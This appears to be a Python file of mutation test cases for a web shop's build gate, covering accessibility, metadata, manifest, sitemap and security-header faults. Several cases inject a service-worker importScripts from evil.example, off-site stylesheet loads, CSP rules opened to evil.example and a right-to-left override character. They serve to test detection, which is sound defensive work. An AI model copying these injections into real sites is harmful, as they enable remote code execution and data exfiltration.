"""Single faults of a second attack, and what each is called: rows for ``test_gate_mutations.py``.

Roles, words of attributes, heads, the web app, policies that let somebody else in, links into other languages; and what
the second built-in theme prints.
"""

from tests.stores.gate_faults import GERMAN, H1, HEADERS, SITEMAP, STYLES, Fault, after_heading

ARABIC = "ar/products/luna/index.html"
MANIFEST = "manifest.webmanifest"

ROLES = [
    Fault("bad-aria", H1, after_heading('<div role="slider" tabindex="0" aria-label="x"></div>'),
          'role="slider" on div without aria-valuenow'),
    Fault("bad-aria", H1, after_heading('<div role="checkbox" tabindex="0" aria-label="x"></div>'),
          'role="checkbox" on div without aria-checked'),
    Fault("bad-role", H1, after_heading('<div role="tab">x</div>'), 'role="tab" on div, which no key reaches'),
    Fault("bad-role", H1, after_heading('<div role="button">x</div>'), 'role="button" on div, which no key reaches'),
    Fault("no-alt", H1, after_heading('<div role="img"></div>'), '<div role="img">'),
    Fault("frame-title", H1, after_heading('<div role="dialog">x</div>'), '<div role="dialog">'),
    Fault("label-in-name", H1, after_heading('<button aria-label="Buy">Order now</button>'),
          '\'Order now\' in <button aria-label="Buy">'),
    Fault("no-alt", H1, after_heading('<input type="image" src="/assets/icon-192.82db905094420101.png">'),
          '<input type="image" src="/assets/icon-192.82db'),
    Fault("content-model", H1, after_heading("<marquee>x</marquee>"), "<marquee> is no element of HTML"),
    Fault("no-alt", H1, after_heading('<area href="/">'), '<area href="/">'),
    Fault("bad-role", H1, after_heading('<a href="/" role="presentation">x</a>'),
          'role="presentation" on a, which keys reach'),
    Fault("no-label", '<label for="find-text">What are you looking for?</label>', '<label for="find-text"></label>',
          'nothing in <label for="find-text">'),
]  # fmt: skip

WORDS = [
    Fault("bad-attribute", '<th scope="row">Black, 47</th>', '<th scope="rows">Black, 47</th>', 'scope="rows" on th'),
    Fault("bad-attribute", H1, after_heading('<input type="txt" aria-label="x">'), 'type="txt" on input'),
    Fault("bad-attribute", H1, after_heading('<button type="submitt">x</button>'), 'type="submitt" on button'),
    Fault("bad-attribute", '<form class="buy needs-script" id="buy"',
          '<form method="dialogue" class="buy needs-script" id="buy"', 'method="dialogue" on form'),
    Fault("control-character", H1, after_heading("<p>\u202eevil</p>"), "U+202E in '\\u202eevil'"),
    Fault("bad-attribute", H1, after_heading('<time datetime="23.11.2026">x</time>'),
          'datetime="23.11.2026" on time'),
    Fault("content-model", H1, after_heading("<nosuchtag>x</nosuchtag>"), "<nosuchtag> is no element of HTML"),
    Fault("no-size", H1,
          after_heading('<img alt="" src="/assets/icon-192.82db905094420101.png" width="0" height="0">'),
          "/assets/icon-192.82db905094420101.png"),
    Fault("bad-srcset", 'sizes="(min-width: 100rem) 51rem', 'sizes="min-width: 100rem 51rem',
          'sizes="min-width: 100rem 51rem" on source'),
    Fault("bad-srcset", 'sizes="(min-width: 100rem) 51rem, (min-width: 64rem) 51vw, 100vw"', "",
          "candidates by width, no sizes on source"),
    Fault("bad-srcset", 'type="image/webp" srcset', 'type="image/avif" srcset',
          "image/avif, of /assets/pictures/92d352f4be6a62"),
    Fault("language-link", 'lang="de" hreflang="de">Deutsch', 'lang="en" hreflang="de">Deutsch',
          'lang="en" on a link to a page in de'),
]  # fmt: skip

HEADS = [
    Fault("open-graph", '"og:locale:alternate" content="de"', '"og:locale:alternate" content="xx"',
          "og:locale:alternate is xx"),
    Fault("open-graph", '"og:locale:alternate" content="de"', '"og:locale:alternate" content="en"',
          "og:locale:alternate is en"),
    Fault("open-graph", 'og:image:alt" content="A frame"', 'og:image:alt" content=""', "og:image:alt is empty"),
    Fault("open-graph", '"og:type" content="product"', '"og:type" content="prodct"',
          "og:type is prodct, of a page that tells of an "),
    Fault("open-graph", '"og:type" content="product"', '"og:type" content="website"',
          "og:type is website, of a page that tells of an"),
    Fault("open-graph", 'og:image" content="https://', 'og:image" content="http://',
          "og:image http://shop.example/assets/pictures/e"),
    Fault("no-description", '<meta name="description" content="A round frame of acetate.">',
          '<meta name="description" content="A round frame of acetate."><meta name="description" content="Two">',
          "2 descriptions"),
    Fault("alternate-not-mutual", '<link rel="alternate" hreflang="de"',
          '<link rel="alternate" hreflang="de-AT" href="https://shop.example/de/products/luna/"><link rel="'
          'alternate" hreflang="de"', "https://shop.example/products/luna/ has other ", page="/ar/products/luna/",
          also="sitemap"),
    Fault("control-character", "<title>", "<title>\u202e", "'\\u202eلونا – Spectacles – Lumen | Small Shop'",
          file=ARABIC),
]  # fmt: skip

APP = [
    Fault("manifest", '"lang": "en"', '"lang": "de"', "lang is 'de', its start page is in 'en'", file=MANIFEST),
    Fault("manifest", '"dir": "ltr"', '"dir": "rtl"', "dir is 'rtl', lang 'en'", file=MANIFEST),
    Fault("manifest", '"purpose": "maskable"', '"purpose": "maskabel"',
          "the icon /assets/icon-maskable.56ce93a99733867", file=MANIFEST),
    Fault("manifest", '"background_color": "#ffffff"', '"background_color": "#ggffff"',
          "background_color is '#ggffff'", file=MANIFEST),
    Fault("manifest", "icon-192.82db905094420101.png", "icon-512.691bf959c9468a61.png",
          "the icon /assets/icon-512.691bf959c9468a61.png", file=MANIFEST),
    Fault("manifest", '"type": "image/png"', '"type": "image/webp"',
          "the icon /assets/icon-192.82db905094420101.png", file=MANIFEST),
    Fault("manifest", '"id": "/"', '"id": "https://evil.example/"',
          "id https://evil.example/ is no address of the ", file=MANIFEST),
    Fault("manifest", '"start_url": "/"', '"start_url": "/de/"', "lang is 'en', its start page is in 'de'",
          file=MANIFEST),
    Fault("inline-code", '"use strict"', 'importScripts("https://evil.example/x.js");"use strict"',
          "it runs code from https://evil.example/x.js", file="sw.js"),
]  # fmt: skip

POLICIES = [
    Fault("policy-blocks", "@font-face{", '@import"https://fonts.example/x.css";@font-face{',
          "style sheets of this site load nothing from ht", file=STYLES, also="asset-changed"),
    Fault("policy-blocks", "@font-face{", "x{background:url(https://evil.example/p.png)}@font-face{",
          "style sheets of this site load nothing from ht", file=STYLES, also="asset-changed"),
    Fault("headers", "microphone=()", "microphone=*", "permissions-policy gives microphone to other s", file=HEADERS),
    Fault("headers", "camera=(), ", "", "permissions-policy says nothing of camera", file=HEADERS),
    Fault("csp-weak", "script-src 'self'", "script-src 'self' 'strict-dynamic'",
          "script-src allows 'strict-dynamic'", file=HEADERS),
    Fault("csp-weak", "script-src 'self'", "script-src 'self' https://evil.example",
          "script-src allows https://evil.example", file=HEADERS),
    Fault("csp-weak", "; frame-ancestors 'none'", "; frame-ancestors https://evil.example",
          "frame-ancestors allows https://evil.example", file=HEADERS),
    Fault("csp-weak", "connect-src 'self'", "connect-src 'self' https://evil.example",
          "connect-src allows https://evil.example", file=HEADERS),
    Fault("csp-weak", "; trusted-types shopwright", "; trusted-types shopwright *", "trusted-types allows *",
          file=HEADERS),
    Fault("csp-weak", "; trusted-types shopwright", "; trusted-types shopwright 'allow-duplicates'",
          "trusted-types allows 'allow-duplicates'", file=HEADERS),
    Fault("csp-weak", "; trusted-types shopwright", "; trusted-types shopwright; report-uri https://evil.example",
          "report-uri tells another site", file=HEADERS),
    Fault("csp-weak", "script-src 'self'", "script-src 'self' https://evil.example",
          "script-src allows https://evil.example"),
    Fault("csp-weak", "connect-src 'self'", "connect-src 'self' https://evil.example",
          "connect-src allows https://evil.example"),
    Fault("csp-weak", "; trusted-types shopwright", "; trusted-types *", "trusted-types allows *"),
    Fault("headers", "/assets/*\n  Cache-Control: public, max-age=31536000, immutable",
          "/assets/*\n  Cache-Control: no-store", "cache-control does not let browsers keep /asse", file=HEADERS),
    Fault("headers", "/sw.js\n  Cache-Control: no-cache", "/sw.js\n  Cache-Control: max-age=86000",
          "cache-control lets browsers keep /sw.js after ", file=HEADERS),
]  # fmt: skip

MAPS = [
    Fault("sitemap", "http://www.google.com/schemas/sitemap-image/1.1",
          "http://www.google.com/schemas/sitemap-image/9", "its xmlns:image is not http://www.google.com/s",
          file=SITEMAP),
    Fault("sitemap", "<url><loc>https://shop.example/about/</loc>",
          "<url><loc>https://shop.example/about/?x=1</loc>", "https://shop.example/about/?x=1 is not the pag",
          file=SITEMAP),
]  # fmt: skip

ELSEWHERE = [
    Fault("language-link", '<a href="/de/">', '<a href="/">', "/ is in another language, without hreflang",
          file=GERMAN),
    Fault("language-link", 'href="/de/cart/"', 'href="/cart/"', "/cart/ is in another language, without hreflan",
          file=GERMAN),
    Fault("bad-page-data", '"cart":"/de/cart/"', '"cart":"/cart/"', "#site-data: cart /cart/ is not under /de/",
          file=GERMAN),
    Fault("bad-page-data", '<html lang="de"', '<html lang="en"', "#site-data is in de, the page in en",
          file="de/404.html"),
]  # fmt: skip

MERIDIAN = [
    Fault("h1-count", H1, "<h2>Luna</h2>", "0"),
    Fault("landmark-name", 'aria-labelledby="footer-shop"', 'aria-label="Language"',
          "2 nav elements are called 'Language'"),
    Fault("dead-reference", '<label class="hidden" for="bar-search">', '<label class="hidden" for="bar">',
          'for="bar"', also="no-label"),
    Fault("sku-mismatch", 'data-item="LUNA-47"', 'data-item="LUNA-48"',
          "the page has 'LUNA-48', structured data has no"),
    Fault("wrong-dir", '<html lang="ar" dir="rtl">', '<html lang="he" dir="ltr">', "lang=he, dir=ltr", file=ARABIC,
          also="alternate-self bad-page-data open-graph"),
]  # fmt: skip
"""The same gate on the other theme: what it prints differs, what has to be true does not."""

AFRESH = [*ROLES, *WORDS, *HEADS, *APP, *POLICIES, *MAPS, *ELSEWHERE]
